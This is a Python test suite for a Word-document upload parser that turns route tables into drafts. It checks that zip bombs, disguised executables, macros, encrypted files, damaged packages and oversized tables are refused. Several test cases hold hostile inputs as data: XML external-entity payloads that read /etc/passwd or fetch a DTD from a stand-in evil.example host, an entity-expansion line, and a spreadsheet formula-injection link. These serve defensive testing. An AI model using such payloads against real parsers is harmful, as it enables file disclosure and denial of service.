"""Cases 25, 30–33 of the abuse list, for a Word file that becomes a draft."""

from __future__ import annotations

import time

import pytest

from iom_wagtail.paperwork.intake.word.package import WordRefused
from iom_wagtail.paperwork.intake.word.people import Person
from tests.files import samples
from tests.paperwork.word.raw import cell, docx, package, par, row, table
from tests.paperwork.word.reading import document_of, draft_of, stored

HEAD = row("Содержание", "Срок", "Совместная деятельность")


def programme(*rows: str) -> bytes:
    return docx(table(HEAD, *rows))


def refused(content: bytes, name: str = "Маршрут.docx") -> WordRefused:
    with pytest.raises(WordRefused) as caught:
        document_of(content, name)
    return caught.value


# --- 25 -----------------------------------------------------------------------------------


def test_case_25_a_formula_is_a_text_like_any_other():
    formula = '=HYPERLINK("http://evil.example","Жми")'
    draft = draft_of(programme(row(formula, "=1+1", "@SUM(A1)")))
    item = draft.programme_items[0]
    assert (item.content, item.due_words, item.activity_joint) == (formula, "=1+1", "@SUM(A1)")


# --- 30, 31 -------------------------------------------------------------------------------


def test_case_30_a_zip_bomb_is_refused_unopened():
    started = time.process_time()
    assert refused(samples.zip_bomb()).code == "bomb"
    assert time.process_time() - started < 15


def test_case_30_a_huge_part_is_refused_unread():
    # Letters that don't pack well, so that the ratio of a bomb isn't reached.
    text = "".join(chr(0x430 + n * n % 31) + str(n) for n in range(2_500_000))
    assert refused(docx(par(text))).code in ("long", "bomb")


@pytest.mark.parametrize(
    ("content", "name", "code"),
    [
        (samples.compound("WordDocument"), "Маршрут.doc", "doc"),
        (samples.pdf(), "Маршрут.pdf", "kind"),
        (samples.opendocument(), "Маршрут.odt", "kind"),
        (samples.openxml("spreadsheetml.sheet"), "Маршрут.xlsx", "kind"),
        (samples.EXE, "Маршрут.docx", "program"),
        (samples.HTML, "Маршрут.docx", "markup"),
        (stored("boxes"), "Маршрут.exe.docx", "double"),
        (stored("boxes"), "Маршрут.pdf", "mismatch"),
    ],
)
def test_case_31_another_kind_of_file_is_refused(content, name, code):
    assert refused(content, name).code == code


def test_case_31_an_old_file_is_refused_with_advice():
    assert ".docx" in str(refused(samples.compound("WordDocument"), "Маршрут.doc"))


# --- 32 -----------------------------------------------------------------------------------


def test_case_32_macros_are_refused_with_advice():
    error = refused(samples.openxml(more={"word/vbaProject.bin": b"x"}))
    assert error.code == "macros" and ".docx" in str(error)


def test_case_32_a_password_is_refused_with_advice():
    error = refused(samples.compound("EncryptedPackage", "EncryptionInfo"))
    assert error.code == "password" and ".docx" in str(error)


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE w:document SYSTEM "http://evil.example/x.dtd">',
        '<!DOCTYPE w:document [<!ENTITY a "ха"><!ENTITY x "&a;&a;&a;&a;">]>',
        "<!DOCTYPE w:document>",
    ],
)
def test_case_32_external_entities_and_definitions_are_refused(head):
    error = refused(docx(par("<w:r><w:t>ab</w:t></w:r>"), head=head))
    assert error.code == "entities"


def test_case_32_an_entity_in_the_text_reads_no_file(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("тайна")
    head = f'<!DOCTYPE w:document [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
    error = refused(docx("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", head=head))
    assert error.code == "entities" and "тайна" not in str(error)


def test_case_32_definitions_in_another_encoding_are_refused_too():
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x "y">]><r/>'
    parts = {
        "[Content_Types].xml": samples.OPENXML + ".wordprocessingml.document.main+xml",
        "word/document.xml": text.encode("utf-16"),
    }
    assert refused(package(parts)).code == "entities"


@pytest.mark.parametrize("cut", [0.2, 0.5, 0.9])
def test_case_32_a_cut_file_is_refused(cut):
    content = stored("as_regulated")
    assert refused(content[: int(len(content) * cut)]).code == "damaged"


def test_case_32_broken_xml_is_refused():
    assert refused(samples.openxml(more={"word/document.xml": b"<w:p><w:t>"})).code == "damaged"


def test_case_32_a_part_that_is_named_and_missing_is_refused():
    parts = {"[Content_Types].xml": samples.OPENXML + ".wordprocessingml.document.main+xml"}
    assert refused(package(parts)).code == "damaged"


def test_case_32_ten_thousand_rows_are_refused_by_the_number_of_the_table():
    content = docx(table(row("а")) + table(HEAD, *[row("Дело", "май", "Вместе")] * 10_000))
    started = time.process_time()
    error = refused(content)
    assert error.code == "rows"
    assert "2" in str(error) and "10001" in str(error).replace("\u00a0", "")
    assert time.process_time() - started < 10


def test_case_32_more_rows_than_a_route_takes_are_refused_by_name():
    with pytest.raises(WordRefused) as caught:
        draft_of(programme(*[row("Дело", "май", "Вместе")] * 501), max_rows=500)
    assert "501" in str(caught.value) and "500" in str(caught.value)


def test_case_32_five_hundred_rows_are_read_in_time():
    content = programme(*[row("Дело", "до 15.10.2025", "Вместе")] * 500)
    started = time.process_time()
    assert len(draft_of(content).programme_items) == 500
    assert time.process_time() - started < 15


def test_case_32_a_table_of_too_many_columns_is_refused():
    assert refused(docx(table(row(*["а"] * 80)))).code == "columns"
    assert refused(docx(table(row(cell("а", span=999_999))))).code == "columns"


def test_case_32_tables_nested_without_end_are_refused():
    inside = par("дно")
    for _level in range(40):
        inside = table(row(cell(inside)))
    assert refused(docx(inside)).code == "deep"


def test_case_32_empty_columns_and_rows_are_passed_over():
    draft = draft_of(
        docx(
            table(
                row("", "Содержание", "", "Срок", ""),
                row("", "", "", "", ""),
                row("", "Дело", "", "май", ""),
            )
        )
    )
    assert [item.content for item in draft.programme_items] == ["Дело"]
    assert draft.notes == []


def test_case_32_a_text_beyond_a_cell_is_refused_by_its_place():
    with pytest.raises(WordRefused) as caught:
        draft_of(programme(row("Дело", "май", "я" * 20_001)))
    message = str(caught.value)
    assert all(words in message for words in ("1", "2", "3", "20001"))


# --- 33 -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "ТӀахиров Иса, ГӀала",
        "😀 Ура 🎉",
        "Смирнова-Ким О’Нил",
        "ы" * 5_000,
        "а  б",
        "Дж. «Я» <b>&amp;",
    ],
)
def test_case_33_texts_are_kept_to_the_letter(text):
    draft = draft_of(programme(row(text, "май", text)))
    item = draft.programme_items[0]
    assert (item.content, item.activity_joint) == (text, text)


def test_case_33_a_person_with_one_name_is_found():
    staff = [Person(1, "Ӏаьржа"), Person(2, "Орлова", "Марина", "Викторовна")]
    draft = draft_of(docx(par("Учитель: Ӏаьржа") + par("Наставник: Орлова М.")), staff=staff)
    assert (draft.teacher.key, draft.mentor.key) == (1, 2)


def test_case_33_a_long_line_is_whole_in_the_note():
    long = "Раз в неделю " * 12
    draft = draft_of(programme(row("Дело", long, "")))
    assert len(draft.programme_items[0].due_words) <= 100
    assert " ".join(long.split()) in draft.note
    assert draft.programme_items[0].remarks
